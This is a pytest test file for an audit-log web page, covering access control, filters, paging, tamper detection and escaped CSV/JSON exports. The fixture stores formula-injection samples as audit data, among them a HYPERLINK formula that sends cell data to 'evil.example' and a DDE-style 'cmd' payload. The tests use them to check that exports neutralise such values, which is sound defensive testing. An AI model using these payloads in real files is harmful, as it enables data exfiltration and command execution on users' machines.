"""The audit log's page: filters by who, what and when, paging by seq, the chain's state, and
exports (CSV with formulas escaped, JSON exact) that need a session with the quality role.
SQLite only: the queries under it run on both databases in tests/central_sync/db."""

from __future__ import annotations

import csv
import functools
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from central_sync.accounts import hash_password
from central_sync.db import CentralDB
from central_sync.db.audit import verify_chain
from central_sync.web import create_app
from central_sync.web.audit import _CachedChainStatus

PASSWORD = "correct horse battery"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@functools.cache
def password_hash() -> str:
    return hash_password(PASSWORD)  # Argon2 takes its time: once for the module


@pytest.fixture
def audited(tmp_path: Path) -> Iterator[CentralDB]:
    db = CentralDB(tmp_path / "central.db")
    for name, role in (("quinn", "quality"), ("vic", "viewer")):
        db.add_user(name, password_hash(), role, by="admin")
    for i in range(5):
        db.audit("alice", "model.publish", f"scrap-model@1.0.{i}", "")
    db.audit("bob", "dataset.create", "surface-labels@1", "items=40")
    db.audit(ATTACK, "device.labels", "+cmd|' /C calc'!A0", "-2+3")
    yield db
    db.close()


def client(db: CentralDB, user: str | None = None) -> TestClient:
    web = TestClient(create_app(db, offline_after_s=120))
    if user:
        reply = web.post("/login", data={"username": user, "password": PASSWORD,
                                         "next": "/audit"})
        assert reply.status_code == 200 and "Audit log" in reply.text
    return web


def seqs_on(page: str) -> list[int]:
    rows = page.split("<th>detail</th></tr>", 1)[1].split("</table>", 1)[0]
    return [int(cell.split("</td>")[0]) for cell in rows.split("<tr><td>")[1:]]


def test_the_page_needs_a_login_and_exports_need_a_session_with_the_quality_role(
        audited: CentralDB) -> None:
    stranger = client(audited)
    reply = stranger.get("/audit?actor=bob", follow_redirects=False)
    assert reply.status_code == 303 and reply.headers["location"].startswith("/login")
    for fmt in ("csv", "json"):  # a link from another site arrives without the cookie
        assert stranger.get(f"/audit/export.{fmt}").status_code == 401
    viewer = client(audited, "vic")
    page = viewer.get("/audit").text
    assert "exporting it needs the quality role" in page and "/audit/export.csv" not in page
    assert viewer.get("/audit/export.csv").status_code == 403
    assert "export." not in {e["action"] for e in audited.list_audit(100)}
    quality = client(audited, "quinn")
    assert 'href="/audit/export.csv?"' in quality.get("/audit").text
    assert quality.get("/audit/export.csv").status_code == 200
    assert quality.get("/audit/export.xml").status_code == 404


def test_filters_by_who_what_and_when(audited: CentralDB) -> None:
    web = client(audited, "vic")
    by_bob = web.get("/audit?actor=bob").text
    assert seqs_on(by_bob) == [8] and "surface-labels@1" in by_bob
    assert seqs_on(web.get("/audit?action=model.").text) == [7, 6, 5, 4, 3]
    assert seqs_on(web.get("/audit?action=model.publish&actor=alice").text) == [7, 6, 5, 4, 3]
    assert seqs_on(web.get("/audit?subject=scrap-model@1.0.4").text) == [7]
    first = time.strftime("%Y-%m-%d", time.localtime(audited.list_audit(1, before_seq=2)[0]["at"]))
    today = time.strftime("%Y-%m-%d")
    assert len(seqs_on(web.get(f"/audit?since={first}&until={today}").text)) == \
        audited.count_audit()
    tomorrow = time.strftime("%Y-%m-%d", time.localtime(time.time() + 86400))
    assert "No entries match" in web.get(f"/audit?since={tomorrow}").text
    assert 'value="model."' in web.get("/audit").text  # the `what` list offers prefixes


def test_pages_go_back_by_seq_with_the_filters_kept(audited: CentralDB) -> None:
    web = client(audited, "vic")
    first = web.get("/audit?action=model.&limit=2").text
    assert seqs_on(first) == [7, 6]
    link = first.split('id="next" href="')[1].split('"')[0].replace("&amp;", "&")
    assert "action=model." in link and "before=6" in link and "limit=2" in link
    second = web.get(link).text
    assert seqs_on(second) == [5, 4] and "← newest" in second
    last = web.get("/audit?action=model.&limit=2&before=4").text
    assert seqs_on(last) == [3] and 'id="next"' not in last


def test_bad_filters_are_refused_saying_why(audited: CentralDB) -> None:
    web = client(audited, "quinn")
    for query, says in (
            ("since=yesterday", "since must be a date like 2026-03-01"),
            ("since=2026-03-02&until=2026-03-01", "since must be before until"),
            ("actor=" + "a" * 201, "actor is longer than 200 characters"),
            ("limit=100000", "less than or equal to 500"),
            ("before=0", "greater than or equal to 1")):
        reply = web.get(f"/audit?{query}")
        assert reply.status_code == 422 and says in reply.text, query
    assert web.get("/audit/export.csv?until=someday").status_code == 422


def test_the_page_shows_the_chain_verified_or_where_it_breaks(audited: CentralDB) -> None:
    assert "Chain verified: entries 1 to 10 intact" in client(audited, "vic").get("/audit").text
    audited._db.execute("UPDATE audit_log SET actor = 'carol' WHERE seq = 4")
    page = client(audited, "vic").get("/audit").text
    assert "Chain broken at entry 4: entry 4 was altered" in page
    assert "Verified up to entry 3" in page


def test_csv_export_escapes_formulas_and_json_keeps_entries_exact(audited: CentralDB) -> None:
    web = client(audited, "quinn")
    reply = web.get("/audit/export.csv?action=device.")
    assert reply.headers["content-type"].startswith("text/csv")
    assert 'filename="audit-' in reply.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    assert len(rows) == 1
    assert rows[0]["actor"] == "'" + ATTACK
    assert rows[0]["subject"] == "'+cmd|' /C calc'!A0" and rows[0]["detail"] == "'-2+3"
    assert rows[0]["seq"] == "9" and rows[0]["time"].endswith("Z")
    exported = web.get("/audit/export.json").json()
    assert exported["filters"] == {}
    attack = next(e for e in exported["entries"] if e["action"] == "device.labels")
    assert attack["actor"] == ATTACK  # exact: the chain can be re-verified from the file
    assert verify_chain(exported["entries"]).intact
    export = audited.list_audit(1)[0]  # each export is audited, after what it exported
    assert (export["actor"], export["action"]) == ("quinn", "audit.export")
    assert [e["seq"] for e in exported["entries"]] == list(range(1, export["seq"]))
    assert json.loads(export["detail"]) == {"format": "json"}


def test_the_page_verifies_new_entries_on_from_the_last_head_and_all_again_later(
        audited: CentralDB) -> None:
    status = _CachedChainStatus(audited, ttl_s=0, full_s=3600)
    assert status.report().intact and status.report().verified_up_to == 9
    audited.audit("alice", "model.deploy", "scrap-model@1.0.4", "")
    step = status.report()
    assert step.intact and (step.verified_up_to, step.entries) == (10, 10)
    audited._db.execute("UPDATE audit_log SET detail = 'x' WHERE seq = 10")  # the head
    broken = status.report()  # the step from a changed head verifies all
    assert [(f.seq, f.problem) for f in broken.findings] == [(10, "altered")]
    audited._db.execute("UPDATE audit_log SET detail = '' WHERE seq = 10")
    audited._db.execute("UPDATE audit_log SET detail = 'x' WHERE seq = 2")
    assert not _CachedChainStatus(audited, ttl_s=0, full_s=0).report().intact
